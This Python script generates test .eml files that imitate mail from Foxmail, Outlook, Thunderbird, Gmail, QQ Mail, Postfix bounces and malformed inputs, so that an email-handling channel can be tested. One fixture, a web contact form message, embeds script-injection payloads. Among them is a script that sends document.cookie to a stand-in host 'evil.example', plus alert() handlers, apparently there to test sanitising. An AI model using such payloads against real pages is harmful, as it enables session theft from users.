"""Writes tests/channels/email/corpus/*.eml: messages shaped as real mail clients and servers
send them, each encoded really in its charset. The bytes are committed; this script says how
they were made (run it from the repository root to make them again:
`.venv/bin/python -m tests.channels.email.make_corpus`).
"""

from __future__ import annotations

import base64
import quopri
from collections.abc import Callable
from pathlib import Path

CORPUS = Path(__file__).parent / "corpus"
CRLF = b"\r\n"


def b64_lines(data: bytes) -> bytes:
    encoded = base64.b64encode(data)
    return CRLF.join(encoded[i : i + 76] for i in range(0, len(encoded), 76))


def encoded_word(text: str, charset: str) -> str:
    return f"=?{charset}?B?{base64.b64encode(text.encode(charset)).decode()}?="


def message(headers: list[str], body: bytes) -> bytes:
    return CRLF.join(h.encode("ascii") for h in headers) + CRLF + CRLF + body


def foxmail_gbk_complaint() -> bytes:
    """Foxmail: GB2312 labels on GBK text (喆 is not in GB2312), an invoice named in GBK by
    RFC 2231 and a photo named by RFC 2047 inside quotes, as Foxmail and Outlook write them."""
    text = "你好，我是王喆。\r\n上个月的账单多扣了我两百元，请尽快退款。\r\n附件是发票。\r\n"
    html = (
        "<html><body><p>你好，我是王喆。</p>"
        "<p>上个月的账单多扣了我两百元，请尽快退款。</p></body></html>"
    )
    invoice = "发票-王喆.pdf".encode("gbk")
    rfc2231 = "".join(f"%{b:02X}" for b in invoice)
    parts = [
        b"--=====001_Dragon_boundary=====",
        b'Content-Type: multipart/alternative; boundary="=====002_Dragon_boundary====="',
        b"",
        b"--=====002_Dragon_boundary=====",
        b'Content-Type: text/plain; charset="gb2312"',
        b"Content-Transfer-Encoding: base64",
        b"",
        b64_lines(text.encode("gbk")),
        b"",
        b"--=====002_Dragon_boundary=====",
        b'Content-Type: text/html; charset="gb2312"',
        b"Content-Transfer-Encoding: quoted-printable",
        b"",
        quopri.encodestring(html.encode("gbk")),
        b"",
        b"--=====002_Dragon_boundary=====--",
        b"",
        b"--=====001_Dragon_boundary=====",
        b"Content-Type: application/pdf",
        b"Content-Transfer-Encoding: base64",
        b"Content-Disposition: attachment; filename*=gbk''" + rfc2231.encode(),
        b"",
        b64_lines(b"%PDF-1.4\n% invoice\n" + b"0" * 2000),
        b"",
        b"--=====001_Dragon_boundary=====",
        b'Content-Type: image/jpeg; name="' + encoded_word("截图.jpg", "gbk").encode() + b'"',
        b"Content-Transfer-Encoding: base64",
        b'Content-Disposition: attachment; filename="'
        + encoded_word("截图.jpg", "gbk").encode()
        + b'"',
        b"",
        b64_lines(b"\xff\xd8\xff\xe0" + b"\x00" * 500),
        b"",
        b"--=====001_Dragon_boundary=====--",
        b"",
    ]
    return message(
        [
            "Date: Tue, 3 Mar 2026 09:15:02 +0800",
            f"From: {encoded_word('王喆', 'gbk')} <WangZhe@163.com>",
            "To: support@example.com",
            f"Subject: {encoded_word('投诉：账单多扣款（王喆）', 'gbk')}",
            "X-Priority: 3",
            "X-Mailer: Foxmail 7.2.25.228[cn]",
            "Mime-Version: 1.0",
            "Message-ID: <202603030915015462315@163.com>",
            'Content-Type: multipart/mixed; boundary="=====001_Dragon_boundary====="',
        ],
        CRLF.join(parts),
    )


def outlook_big5_folded_subject() -> bytes:
    """Outlook in Traditional Chinese: a Big5 subject in encoded words folded over lines, split
    in the middle of a character; the body in quoted-printable Big5."""
    subject = "退款申請已經兩週未處理，請盡快回覆"
    data = subject.encode("big5")
    words = [data[i : i + 13] for i in range(0, len(data), 13)]  # odd cuts split characters
    folded = "\r\n ".join(f"=?big5?B?{base64.b64encode(w).decode()}?=" for w in words)
    body = "您好：\r\n我在二月十日申請退款，至今沒有回覆。\r\n陳先生\r\n"
    return message(
        [
            "From: =?big5?B?s6+l/aXN?= <chen@example.com.tw>",
            "To: <support@example.com>",
            f"Subject: {folded}",
            "Date: Wed, 4 Mar 2026 10:02:11 +0800",
            "Message-ID: <TY2PR01MB12345ABCDEF@TY2PR01MB1234.apcprd01.prod.exchangelabs.com>",
            "Accept-Language: zh-TW, en-US",
            "Content-Language: zh-TW",
            "X-MS-Has-Attach: ",
            'Content-Type: text/plain; charset="big5"',
            "Content-Transfer-Encoding: quoted-printable",
            "MIME-Version: 1.0",
        ],
        quopri.encodestring(body.encode("big5")),
    )


def thunderbird_iso2022jp() -> bytes:
    """Thunderbird in Japanese: ISO-2022-JP (7 bit) body and subject."""
    body = (
        "お世話になっております。\r\n"
        "注文番号 12345 の商品がまだ届いていません。\r\n確認をお願いします。\r\n"
    )
    return message(
        [
            "Message-ID: <6b1c2d3e-aaaa-bbbb-cccc-1234567890ab@example.jp>",
            "Date: Thu, 5 Mar 2026 14:30:00 +0900",
            "MIME-Version: 1.0",
            "User-Agent: Mozilla Thunderbird",
            "Content-Language: ja",
            "To: support@example.com",
            f"From: {encoded_word('山田太郎', 'iso-2022-jp')} <yamada@example.jp>",
            f"Subject: {encoded_word('商品が届きません', 'iso-2022-jp')}",
            "Content-Type: text/plain; charset=ISO-2022-JP",
            "Content-Transfer-Encoding: 7bit",
        ],
        body.encode("iso-2022-jp"),
    )


def web_form_html_only() -> bytes:
    """A website's contact form: HTML only, with a script, a style and an onclick."""
    html = (
        "<html><head><title>Contact form</title><style>p { color: red }</style>"
        "<script>document.location='https://evil.example/?c='+document.cookie</script></head>"
        "<body><h1>New message</h1><p onclick=\"alert('x')\">My parcel never arrived.</p>"
        "<p>Order <b>A-1001</b>, please help.</p><script>alert('pwned')</script>"
        "<img src=x onerror=\"alert('img')\"></body></html>"
    )
    return message(
        [
            "Return-Path: <www-data@shop.example.com>",
            "From: Shop Contact Form <noreply@shop.example.com>",
            "Reply-To: Maria Rossi <maria@example.it>",
            "To: support@example.com",
            "Subject: Contact form: parcel missing",
            "Date: Fri, 6 Mar 2026 08:00:00 +0100",
            "Message-ID: <form-7781@shop.example.com>",
            "MIME-Version: 1.0",
            "Content-Type: text/html; charset=UTF-8",
            "Content-Transfer-Encoding: base64",
        ],
        b64_lines(html.encode()),
    )


def gmail_reply() -> bytes:
    """Gmail: a reply to our answer, with In-Reply-To, References, the reply token in the plus
    address, and the history quoted under a wrapped "On ... wrote:" line."""
    plain = (
        "Thanks, the refund arrived today.\r\n\r\nBest,\r\nLi Wei\r\n\r\n"
        "On Mon, Mar 2, 2026 at 4:05 PM Example Support <support+k3j9x2m4q8@example.com>\r\n"
        "wrote:\r\n\r\n"
        "> Hello Li Wei,\r\n>\r\n> We have sent the refund.\r\n>\r\n"
    )
    html = (
        '<div dir="ltr">Thanks, the refund arrived today.<div><br></div><div>Best,</div>'
        '<div>Li Wei</div></div><br><div class="gmail_quote"><div dir="ltr" '
        'class="gmail_attr">On Mon, Mar 2, 2026 at 4:05 PM Example Support &lt;'
        "support+k3j9x2m4q8@example.com&gt; wrote:<br></div><blockquote "
        'class="gmail_quote">Hello Li Wei,<br><br>We have sent the refund.</blockquote></div>'
    )
    body = CRLF.join(
        [
            b"--000000000000a1b2c3d4e5f6",
            b'Content-Type: text/plain; charset="UTF-8"',
            b"",
            plain.encode(),
            b"--000000000000a1b2c3d4e5f6",
            b'Content-Type: text/html; charset="UTF-8"',
            b"Content-Transfer-Encoding: quoted-printable",
            b"",
            quopri.encodestring(html.encode()),
            b"--000000000000a1b2c3d4e5f6--",
            b"",
        ]
    )
    return message(
        [
            "MIME-Version: 1.0",
            "References: <cc-0001.k3j9x2m4q8@example.com> <cc-0002.k3j9x2m4q8@example.com>",
            "In-Reply-To: <cc-0002.k3j9x2m4q8@example.com>",
            "From: Li Wei <Li.Wei@gmail.com>",
            "Date: Tue, 3 Mar 2026 11:20:45 +0800",
            "Message-ID: <CAF=abc123DEF456ghi789@mail.gmail.com>",
            "Subject: Re: [#k3j9x2m4q8] Refund for order 5521",
            "To: Example Support <support+k3j9x2m4q8@example.com>",
            'Content-Type: multipart/alternative; boundary="000000000000a1b2c3d4e5f6"',
        ],
        body,
    )


def qq_mail_reply() -> bytes:
    """QQ Mail: a reply in UTF-8 base64, the history under QQ's "原始邮件" separator, the reply
    token only in the subject."""
    text = (
        "好的，谢谢你们的处理。\r\n\r\n"
        "------------------ 原始邮件 ------------------\r\n"
        '发件人: "客服"<support@example.com>;\r\n'
        "发送时间: 2026年3月2日(星期一) 下午4:05\r\n"
        '收件人: "张三"<12345678@qq.com>;\r\n'
        "主题: [#Q7w8e9r0t1] 退款\r\n\r\n"
        "您好，退款已经处理。\r\n"
    )
    return message(
        [
            f'From: "{encoded_word("张三", "utf-8")}" <12345678@qq.com>',
            f'To: "{encoded_word("客服", "utf-8")}" <support@example.com>',
            f"Subject: {encoded_word('回复：[#Q7w8e9r0t1] 退款', 'utf-8')}",
            "Mime-Version: 1.0",
            'Content-Type: text/plain; charset="utf-8"',
            "Content-Transfer-Encoding: base64",
            "Date: Tue, 3 Mar 2026 08:01:02 +0800",
            "X-Priority: 3",
            "Message-ID: <tencent_1A2B3C4D5E6F@qq.com>",
            "X-QQ-MIME: TCMime 1.0 by Tencent",
            "X-Mailer: QQMail 2.x",
            "X-QQ-Mailer: QQMail 2.x",
            "In-Reply-To: <cc-0009.q7w8e9r0t1@example.com>",
        ],
        b64_lines(text.encode()),
    )


def outlook_original_message() -> bytes:
    """Outlook on Windows: Windows-1252 labelled ISO-8859-1, quoted-printable, the history
    under -----Original Message-----."""
    text = (
        "Hi,\r\n\r\nI still can\u2019t log in \u2013 the reset link expired.\r\n\r\n"
        "Regards,\r\nJos\u00e9\r\n\r\n"
        "-----Original Message-----\r\nFrom: Example Support <support@example.com>\r\n"
        "Sent: Monday, March 2, 2026 4:05 PM\r\nTo: Jos\u00e9 Garc\u00eda <jose@example.es>\r\n"
        "Subject: Password reset\r\n\r\nPlease use the link below.\r\n"
    )
    return message(
        [
            "From: =?iso-8859-1?Q?Jos=E9_Garc=EDa?= <Jose@Example.ES>",
            "To: 'Example Support' <support@example.com>",
            "Cc: <boss@example.es>",
            "Subject: RE: Password reset",
            "Date: Tue, 3 Mar 2026 09:00:00 +0100",
            "Message-ID: <000001d9abcd$12345678$9abcdef0@example.es>",
            "MIME-Version: 1.0",
            'Content-Type: text/plain; charset="iso-8859-1"',
            "Content-Transfer-Encoding: quoted-printable",
            "X-Mailer: Microsoft Outlook 16.0",
            "Thread-Index: AdmrzRI0VniavN7wQ0KZ8s1Jx8Yw==",
        ],
        quopri.encodestring(text.encode("cp1252")),
    )


def exchange_out_of_office() -> bytes:
    """Exchange's out-of-office notice as some servers relay it: no Auto-Submitted, no
    X-Auto-Response-Suppress; only its subject says what it is."""
    return message(
        [
            "From: Anna Schmidt <anna.schmidt@example.de>",
            "To: Example Support <support@example.com>",
            "Subject: Automatic reply: Your ticket [#k3j9x2m4q8]",
            "Date: Tue, 3 Mar 2026 09:00:03 +0000",
            "Message-ID: <ooo-5a1d@EXCH01.example.de>",
            "In-Reply-To: <cc-0002.k3j9x2m4q8@example.com>",
            "Content-Type: text/plain; charset=us-ascii",
            "MIME-Version: 1.0",
        ],
        b"I am out of the office until 16 March with limited access to email.\r\n",
    )


def netease_auto_reply() -> bytes:
    """A Chinese mail system's vacation notice: "自动回复" in the subject, no header says it."""
    return message(
        [
            f"From: {encoded_word('李娜', 'gb2312')} <lina@126.com>",
            "To: support@example.com",
            f"Subject: {encoded_word('自动回复: 退款', 'gb2312')}",
            "Date: Tue, 3 Mar 2026 09:00:03 +0800",
            "Message-ID: <auto-1234@126.com>",
            "Content-Type: text/plain; charset=GBK",
            "Content-Transfer-Encoding: base64",
            "MIME-Version: 1.0",
        ],
        b64_lines("您好，我正在休假，3月16日回来。".encode("gbk")),
    )


def _postfix_report(action: str, status: str, diagnostic: str, subject: str) -> bytes:
    notice = (
        "This is the mail system at host mx.example.com.\r\n\r\n"
        "I'm sorry to have to inform you that your message could not\r\n"
        "be delivered to one or more recipients.\r\n\r\n"
        f"<nobody@example.org>: {diagnostic}\r\n"
    )
    dsn = (
        "Reporting-MTA: dns; mx.example.com\r\nX-Postfix-Queue-ID: 4Q1xyz2Abcd\r\n"
        "X-Postfix-Sender: rfc822; support@example.com\r\n"
        "Arrival-Date: Tue,  3 Mar 2026 09:00:00 +0000 (UTC)\r\n\r\n"
        "Final-Recipient: rfc822; Nobody@Example.org\r\n"
        "Original-Recipient: rfc822;nobody@example.org\r\n"
        f"Action: {action}\r\nStatus: {status}\r\n"
        f"Remote-MTA: dns; mail.example.org\r\nDiagnostic-Code: smtp; {diagnostic}\r\n"
    )
    body = CRLF.join(
        [
            b"This is a MIME-encapsulated message.",
            b"",
            b"--4Q1xyz2Abcd.1709456400/mx.example.com",
            b"Content-Description: Notification",
            b"Content-Type: text/plain; charset=us-ascii",
            b"",
            notice.encode(),
            b"--4Q1xyz2Abcd.1709456400/mx.example.com",
            b"Content-Description: Delivery report",
            b"Content-Type: message/delivery-status",
            b"",
            dsn.encode(),
            b"--4Q1xyz2Abcd.1709456400/mx.example.com",
            b"Content-Description: Undelivered Message Headers",
            b"Content-Type: text/rfc822-headers",
            b"",
            b"From: Example Support <support@example.com>\r\nTo: nobody@example.org\r\n"
            b"Subject: Your ticket\r\nMessage-ID: <cc-0003.aaaabbbb1@example.com>\r\n",
            b"--4Q1xyz2Abcd.1709456400/mx.example.com--",
            b"",
        ]
    )
    return message(
        [
            "Return-Path: <>",
            "Date: Tue,  3 Mar 2026 09:00:05 +0000 (UTC)",
            "From: MAILER-DAEMON@mx.example.com (Mail Delivery System)",
            f"Subject: {subject}",
            "To: support@example.com",
            "Auto-Submitted: auto-replied",
            "MIME-Version: 1.0",
            "Content-Type: multipart/report; report-type=delivery-status;",
            '\tboundary="4Q1xyz2Abcd.1709456400/mx.example.com"',
            "Content-Transfer-Encoding: 8bit",
            "Message-Id: <20260303090005.5B2C81A0@mx.example.com>",
        ],
        body,
    )


def postfix_bounce() -> bytes:
    """Postfix's bounce: RFC 3464, the recipient does not exist (5.1.1, permanent)."""
    return _postfix_report(
        "failed",
        "5.1.1",
        "550 5.1.1 <nobody@example.org>: Recipient address rejected: User unknown",
        "Undelivered Mail Returned to Sender",
    )


def postfix_delay() -> bytes:
    """Postfix's delay warning: RFC 3464, Action delayed, 4.4.1 (not permanent)."""
    return _postfix_report(
        "delayed",
        "4.4.1",
        "451 4.4.1 connect to mail.example.org[192.0.2.1]:25: Connection timed out",
        "Delayed Mail (still being retried)",
    )


def mailman_list() -> bytes:
    """Mailman 3 list mail: List-Id, List-Unsubscribe, Precedence: list."""
    return message(
        [
            "From: Bob <bob@example.net>",
            "To: users@lists.example.net",
            "Cc: support@example.com",
            "Subject: [users] Anyone else seeing the outage?",
            "Date: Tue, 3 Mar 2026 10:00:00 -0500",
            "Message-ID: <list-99@example.net>",
            "Precedence: list",
            "List-Id: Users of Example <users.lists.example.net>",
            "List-Unsubscribe: <mailto:users-leave@lists.example.net>",
            "List-Post: <mailto:users@lists.example.net>",
            "Content-Type: text/plain; charset=utf-8",
            "MIME-Version: 1.0",
        ],
        b"Is the service down for everyone?\r\n",
    )


def thunderbird_no_message_id() -> bytes:
    """A message with no Message-ID (some scripts and old clients send such)."""
    return message(
        [
            "From: Old Client <old@example.com>",
            "To: support@example.com",
            "Subject: No id here",
            "Date: Tue, 3 Mar 2026 10:00:00 +0000",
            "Content-Type: text/plain; charset=utf-8; format=flowed",
        ],
        b"Please call me back.\r\n",
    )


def broken_date() -> bytes:
    """A Date no parser can read."""
    return message(
        [
            "From: someone@example.com",
            "To: support@example.com",
            "Subject: Broken date",
            "Date: Tuesday, sometime after lunch",
            "Message-ID: <broken-date@example.com>",
        ],
        b"The date header is nonsense.\r\n",
    )


def oversize_attachment() -> bytes:
    """Apple Mail: a small photo, then a large report, then a small note (the test gives a
    budget the report does not fit in)."""
    parts = [
        b"--Apple-Mail=_1",
        b"Content-Type: text/plain; charset=us-ascii",
        b"",
        b"Photos and the report attached.",
        b"--Apple-Mail=_1",
        b"Content-Disposition: attachment; filename=photo.jpg",
        b"Content-Type: image/jpeg; name=photo.jpg",
        b"Content-Transfer-Encoding: base64",
        b"",
        b64_lines(b"\xff\xd8" + b"p" * 3000),
        b"--Apple-Mail=_1",
        b"Content-Disposition: attachment; filename=report.pdf",
        b"Content-Type: application/pdf; name=report.pdf",
        b"Content-Transfer-Encoding: base64",
        b"",
        b64_lines(b"%PDF" + b"r" * 40000),
        b"--Apple-Mail=_1",
        b"Content-Disposition: attachment; filename=note.txt",
        b"Content-Type: text/plain; name=note.txt",
        b"",
        b"a small note",
        b"--Apple-Mail=_1--",
        b"",
    ]
    return message(
        [
            "From: Tom <tom@example.com>",
            'Content-Type: multipart/mixed; boundary="Apple-Mail=_1"',
            "Mime-Version: 1.0 (Mac OS X Mail 16.0)",
            "Subject: Photos",
            "Message-Id: <AB12-CD34@example.com>",
            "Date: Tue, 3 Mar 2026 10:00:00 +0000",
            "To: support@example.com",
        ],
        CRLF.join(parts),
    )


def wrong_charsets() -> bytes:
    """A part labelled UTF-8 that is GBK, and a part in a charset nobody knows."""
    parts = [
        b"--b1",
        b"Content-Type: text/plain; charset=utf-8",
        b"",
        "退款".encode("gbk") + b" please",
        b"--b1",
        b"Content-Type: text/plain; charset=x-no-such-charset",
        b"",
        b"caf\xe9 \xff\xfe",
        b"--b1--",
        b"",
    ]
    return message(
        [
            "From: mixed@example.com",
            "To: support@example.com",
            "Subject: =?x-no-such-charset?Q?caf=E9?= mislabelled",
            "Content-Type: multipart/mixed; boundary=b1",
            "Message-ID: <wrong-charsets@example.com>",
        ],
        CRLF.join(parts),
    )


def not_mail_http() -> bytes:
    """An HTTP request someone sent to the mail port: header-like lines, none of a message."""
    return b"GET / HTTP/1.1\r\nHost: mail.example.com\r\nUser-Agent: curl/8.5.0\r\n\r\n"


def not_mail_png() -> bytes:
    """The start of a PNG image."""
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06"


MESSAGES: dict[str, Callable[[], bytes]] = {
    "foxmail_gbk_complaint.eml": foxmail_gbk_complaint,
    "outlook_big5_folded_subject.eml": outlook_big5_folded_subject,
    "thunderbird_iso2022jp.eml": thunderbird_iso2022jp,
    "web_form_html_only.eml": web_form_html_only,
    "gmail_reply.eml": gmail_reply,
    "qq_mail_reply.eml": qq_mail_reply,
    "outlook_original_message.eml": outlook_original_message,
    "exchange_out_of_office.eml": exchange_out_of_office,
    "netease_auto_reply.eml": netease_auto_reply,
    "postfix_bounce.eml": postfix_bounce,
    "postfix_delay.eml": postfix_delay,
    "mailman_list.eml": mailman_list,
    "no_message_id.eml": thunderbird_no_message_id,
    "broken_date.eml": broken_date,
    "oversize_attachment.eml": oversize_attachment,
    "wrong_charsets.eml": wrong_charsets,
    "not_mail_http.eml": not_mail_http,
    "not_mail_png.eml": not_mail_png,
}


def main() -> None:
    CORPUS.mkdir(exist_ok=True)
    for name, make in MESSAGES.items():
        (CORPUS / name).write_bytes(make())


if __name__ == "__main__":
    main()
